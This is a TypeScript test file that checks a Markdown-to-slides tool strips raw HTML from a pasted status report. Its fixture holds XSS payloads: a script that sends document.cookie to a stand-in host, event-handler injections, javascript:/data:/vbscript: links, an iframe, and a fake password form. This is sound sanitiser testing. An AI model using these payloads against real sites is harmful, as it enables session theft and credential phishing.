/**
 * A status report pasted from a CMS, with a script, event handlers, frames, a form and script links
 * slipped in, built as a user builds it: with and without --allow-html. Whatever the mode, the HTML
 * deck runs only its own scripts, carries no handler, frame, style or form of the report's and links
 * nothing that runs code; the PPTX and the PDF carry the same text. What the report says is kept.
 */
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fromHtml } from 'hast-util-from-html';
import type { Element, Root, RootContent } from 'hast';
import { briefdeck } from '../helpers/cli.js';
import { FIXTURES } from '../helpers/fixtures.js';
import { hasBrowser, launchBrowser } from '../helpers/browser.js';
import { hasPoppler, pdfLinks, pdfText } from '../helpers/pdf.js';
import { readPptx, type ReadPptx } from '../helpers/pptx.js';
import { tempDir } from '../helpers/tmp.js';
import { openDeck } from '../helpers/html-layout.js';

const dir = tempDir('briefdeck-raw-html-');

const REPORT = `# Northern Depots — Weekly Status

## 1. Summary

<div class="cms-block" data-block-id="4471">
<p><span style="color:#b00">Fuel costs</span> <b onclick="window.__pwned = 'onclick'">fell</b> 6% in March.<br>Driver overtime stayed flat at 3.1%.</p>
<p>Most of the saving came from the new routing in Leeds.</p>
</div>

<!-- editor: confirm the overtime figure with payroll before sending -->

## 2. Deliveries

<table>
<thead><tr><th>Depot</th><th>Late deliveries</th></tr></thead>
<tbody>
<tr><td>Leeds</td><td>14</td></tr>
<tr><td>Bristol</td><td>9</td></tr>
</tbody>
</table>

<script>fetch('https://collector.example.net/?c=' + document.cookie); window.__pwned = 'script';</script>

<p align="center"><img src="returns.png" onerror="window.__pwned = 'onerror'" alt="Returns by month"></p>

## 3. Actions

<ul>
<li>Read the <a href="https://intranet.example.com/ops/march" onmouseover="window.__pwned = 'mouseover'">March dashboard</a> before <b>Thursday</b>.</li>
<li>Ask <a href="javascript:window.__pwned='link'">the route planner</a> or <a href="data:text/html,<script>window.__pwned='data'</script>">the night desk</a> for the rota.</li>
<li>Check <a href="vbscript:msgbox(1)">the macro sheet</a>.</li>
</ul>

<iframe src="https://collector.example.net/frame" title="tracker"></iframe>
<style>.reveal { display: none }</style>
<base href="https://collector.example.net/">
<form action="https://collector.example.net/login"><label>Payroll password</label><input type="password" name="pw"><button>Sign in</button></form>
<object data="https://collector.example.net/x.swf"></object><embed src="https://collector.example.net/y.swf">

Next review on Friday.
`;

/** The same report without HTML: what the deck's own markup looks like. */
const PLAIN = `# Northern Depots — Weekly Status

## 1. Summary

Fuel costs **fell** 6% in March.
Driver overtime stayed flat at 3.1%.

Most of the saving came from the new routing in Leeds.

## 2. Deliveries

| Depot | Late deliveries |
|---|---|
| Leeds | 14 |
| Bristol | 9 |

![Returns by month](returns.png)

## 3. Actions

- Read the [March dashboard](https://intranet.example.com/ops/march) before **Thursday**.
- Ask the route planner or the night desk for the rota.
- Check the macro sheet.

Next review on Friday.
`;

/** Text the report says, found on the slides or in the notes in every mode. */
const KEPT = ['Fuel costs fell 6% in March', 'Driver overtime stayed flat at 3.1%', 'new routing in Leeds', 'Late deliveries', 'Bristol', 'Read the March dashboard before Thursday', 'Ask the route planner or the night desk for the rota', 'Check the macro sheet', 'Payroll password', 'Next review on Friday'];
/** What was slipped in: never anywhere in any output. */
const PAYLOAD = /__pwned|collector\.example\.net|document\.cookie|msgbox|Sign in|editor: confirm/;
const BAD_SCHEME = /^\s*(javascript|data|vbscript):/i;

interface Built {
  html: string;
  tree: Root;
  pptx: ReadPptx;
  stderr: string;
}

const builds = new Map<'plain' | 'default' | 'allowed', Built>();
const get = (mode: 'plain' | 'default' | 'allowed') => builds.get(mode)!;

async function build(mode: 'plain' | 'default' | 'allowed'): Promise<Built> {
  const out = path.join(dir, mode);
  const report = path.join(dir, mode === 'plain' ? 'plain.md' : 'status.md');
  const r = briefdeck(['build', report, '-f', 'html,pptx', '-o', out, ...(mode === 'allowed' ? ['--allow-html'] : [])]);
  expect(r.status, r.stderr).toBe(0);
  const stem = path.basename(report, '.md');
  const html = readFileSync(path.join(out, `${stem}.html`), 'utf8');
  return { html, tree: fromHtml(html), pptx: await readPptx(readFileSync(path.join(out, `${stem}.pptx`))), stderr: r.stderr };
}

beforeAll(async () => {
  writeFileSync(path.join(dir, 'status.md'), REPORT);
  writeFileSync(path.join(dir, 'plain.md'), PLAIN);
  copyFileSync(path.join(FIXTURES, 'images', 'returns-2025.png'), path.join(dir, 'returns.png'));
  for (const mode of ['plain', 'default', 'allowed'] as const) builds.set(mode, await build(mode));
}, 120_000);

function elements(node: Root | Element, out: Element[] = []): Element[] {
  for (const c of node.children) {
    if (c.type !== 'element') continue;
    out.push(c);
    elements(c, out);
  }
  return out;
}
const named = (tree: Root, name: string) => elements(tree).filter((e) => e.tagName === name);
const textOf = (node: RootContent | Root): string =>
  node.type === 'text' ? node.value : 'children' in node ? node.children.map((c) => textOf(c as RootContent)).join(' ') : '';
const flat = (s: string) => s.replace(/\s+/g, ' ').replace(/ ([.,])/g, '$1');
/** Everything the slides and their notes say. */
const slidesText = (tree: Root) => flat(named(tree, 'section').map(textOf).join(' '));
const pptxText = (p: ReadPptx) => flat(p.slides.flatMap((s) => [...s.shapes.map((sh) => sh.text), s.notes]).join(' '));
const hyperlinks = (p: ReadPptx) => p.slides.flatMap((s) => s.rels.filter((r) => r.type.endsWith('/hyperlink')).map((r) => r.target));

describe.each(['default', 'allowed'] as const)('raw HTML in a report, built %s', (mode) => {
  it('runs only the deck’s own scripts', () => {
    const own = named(get('plain').tree, 'script').map(textOf);
    expect(own.length).toBeGreaterThan(0);
    expect(named(get(mode).tree, 'script').map(textOf)).toEqual(own);
  });

  it('carries no event handler, frame, object, style, base or form of the report’s', () => {
    const { tree } = get(mode);
    const handlers = elements(tree).flatMap((e) => Object.keys(e.properties).filter((k) => /^on/i.test(k)).map((k) => `<${e.tagName} ${k}>`));
    expect(handlers).toEqual(elements(get('plain').tree).flatMap((e) => Object.keys(e.properties).filter((k) => /^on/i.test(k)).map((k) => `<${e.tagName} ${k}>`)));
    for (const name of ['iframe', 'object', 'embed', 'base', 'form', 'input', 'button']) expect(named(tree, name), name).toEqual([]);
    expect(named(tree, 'style').length).toBe(named(get('plain').tree, 'style').length);
    // On the slides, only the deck's own markup: nothing with a style or class the report wrote.
    const slides = named(tree, 'section').flatMap((s) => elements(s));
    expect(slides.filter((e) => e.properties.style !== undefined && String(e.properties.style).includes('#b00'))).toEqual([]);
    expect(slides.filter((e) => ['span', 'div', 'p'].includes(e.tagName) && String(e.properties.className ?? '').includes('cms-block'))).toEqual([]);
  });

  it('never shows the script, the comment or a form control’s text, even as text', () => {
    expect(get(mode).html).not.toMatch(PAYLOAD);
    expect(pptxText(get(mode).pptx)).not.toMatch(PAYLOAD);
  });

  it('links nothing that runs code', () => {
    const hrefs = elements(get(mode).tree).flatMap((e) => ['href', 'src', 'action', 'formAction'].map((k) => e.properties[k]).filter((v) => v !== undefined && v !== null).map(String));
    expect(hrefs.filter((h) => BAD_SCHEME.test(h) && !h.startsWith('data:image/') && !h.startsWith('data:font/'))).toEqual([]);
    expect(hyperlinks(get(mode).pptx).filter((t) => !/^(https?:|mailto:)/.test(t))).toEqual([]);
  });

  it('keeps what the report says, on the slides or in the notes, in the HTML deck and the PPTX', () => {
    const html = slidesText(get(mode).tree);
    const pptx = pptxText(get(mode).pptx);
    for (const text of KEPT) {
      expect(html, text).toContain(text);
      expect(pptx, text).toContain(text);
    }
  });

  it('makes a strictly valid PPTX', () => {
    expect(get(mode).pptx.problems).toEqual([]);
  });
});

describe('without --allow-html', () => {
  it('keeps only text: no link, no picture, no formatting from the HTML', () => {
    const { tree, pptx } = get('default');
    const slides = named(tree, 'section');
    expect(slides.flatMap((s) => elements(s)).filter((e) => e.tagName === 'a' && e.properties.href)).toEqual([]);
    expect(slides.flatMap((s) => elements(s)).filter((e) => e.tagName === 'img')).toEqual([]);
    expect(hyperlinks(pptx)).toEqual([]);
    expect(pptx.slides.flatMap((s) => s.shapes.filter((sh) => sh.kind === 'p:pic'))).toEqual([]);
  });

  it('says once that raw HTML was not passed through, and where', () => {
    const warnings = get('default').stderr.split('\n').filter((l) => l.includes('raw HTML'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/status\.md:5: warning: raw HTML is not passed through \(\d+ places: lines 5, 14, 22, 24, 28, 34\)/);
  });
});

describe('with --allow-html', () => {
  it('keeps the web link live and the picture, as Markdown would', () => {
    const { tree, pptx } = get('allowed');
    const links = named(tree, 'section').flatMap((s) => elements(s)).filter((e) => e.tagName === 'a' && e.properties.href);
    expect(links.map((a) => [a.properties.href, textOf(a).trim()])).toEqual([['https://intranet.example.com/ops/march', 'March dashboard']]);
    expect(hyperlinks(pptx)).toContain('https://intranet.example.com/ops/march');
    expect(pptx.slides.flatMap((s) => s.shapes.filter((sh) => sh.kind === 'p:pic')).length).toBe(get('plain').pptx.slides.flatMap((s) => s.shapes.filter((sh) => sh.kind === 'p:pic')).length);
    expect(named(tree, 'section').flatMap((s) => elements(s)).filter((e) => e.tagName === 'img').length).toBe(
      named(get('plain').tree, 'section').flatMap((s) => elements(s)).filter((e) => e.tagName === 'img').length,
    );
    expect(slidesText(tree)).toContain('Returns by month');
  });

  it('keeps the bold the report gave', () => {
    const bold = named(get('allowed').tree, 'section').flatMap((s) => elements(s)).filter((e) => ['b', 'strong'].includes(e.tagName)).map((e) => textOf(e).trim());
    expect(bold).toContain('Thursday');
  });

  it('names what the allow-list removed, in one warning', () => {
    const warnings = get('allowed').stderr.split('\n').filter((l) => l.includes('raw HTML'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/status\.md:6: warning: raw HTML: onclick, <script>, onerror, onmouseover, javascript: link, data: link, vbscript: link, <iframe>, … removed by the allow-list/);
  });
});

describe.skipIf(!hasBrowser)('the deck in a browser', () => {
  let session: Awaited<ReturnType<typeof launchBrowser>>;
  beforeAll(async () => {
    session = await launchBrowser();
  }, 60_000);
  afterAll(async () => {
    await session?.close();
  });

  /** Opens a built deck, visits every slide, hovers and clicks every element, and says what ran. */
  async function visit(mode: 'plain' | 'default' | 'allowed') {
    const dialogs: string[] = [];
    const file = path.join(dir, mode, `${mode === 'plain' ? 'plain' : 'status'}.html`);
    const { page, requests } = await openDeck(session.browser, file, (p) =>
      p.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      }),
    );
    const seen = await page.evaluate(async () => {
      const R = (window as unknown as { Reveal: { getTotalSlides(): number; slide(i: number): void } }).Reveal;
      for (let i = 0; i < R.getTotalSlides(); i++) {
        R.slide(i);
        await new Promise((r) => requestAnimationFrame(() => r(null)));
        for (const el of Array.from(document.querySelectorAll('.slides *'))) {
          for (const type of ['mouseover', 'focus', 'error', 'load']) el.dispatchEvent(new Event(type, { bubbles: true }));
          if (!(el instanceof HTMLAnchorElement)) el.dispatchEvent(new MouseEvent('click', { bubbles: true }));
          // A link that runs code would run when clicked; a web link would leave the page, so it is not clicked.
          if (el instanceof HTMLAnchorElement && !/^(https?|mailto):/.test(el.href)) el.click();
        }
      }
      return { pwned: (window as unknown as { __pwned?: string }).__pwned ?? null, scripts: document.scripts.length, url: location.href };
    });
    await page.close();
    return { ...seen, dialogs, requests };
  }

  it('runs nothing of the report’s, and asks the network for nothing, in either mode', async () => {
    const plain = await visit('plain');
    for (const mode of ['default', 'allowed'] as const) {
      const seen = await visit(mode);
      expect(seen.pwned, mode).toBeNull();
      expect(seen.dialogs, mode).toEqual([]);
      expect(seen.requests, mode).toEqual([]);
      expect(seen.scripts, mode).toBe(plain.scripts);
      expect(seen.url, mode).toMatch(/^file:/);
    }
  }, 60_000);
});

describe.skipIf(!hasBrowser || !hasPoppler)('the slides PDF with --allow-html', () => {
  it('carries the same text and links only the web link', async () => {
    const out = path.join(dir, 'pdf');
    const r = briefdeck(['build', path.join(dir, 'status.md'), '-f', 'pdf', '--allow-html', '-o', out]);
    expect(r.status, r.stderr).toBe(0);
    const pdf = path.join(out, 'status.pdf');
    const text = flat(pdfText(pdf));
    for (const t of KEPT.filter((k) => !['Driver overtime stayed flat at 3.1%', 'Payroll password'].includes(k))) expect(text, t).toContain(t);
    expect(text).not.toMatch(PAYLOAD);
    expect(await pdfLinks(pdf)).toEqual(['https://intranet.example.com/ops/march']);
  }, 120_000);
});
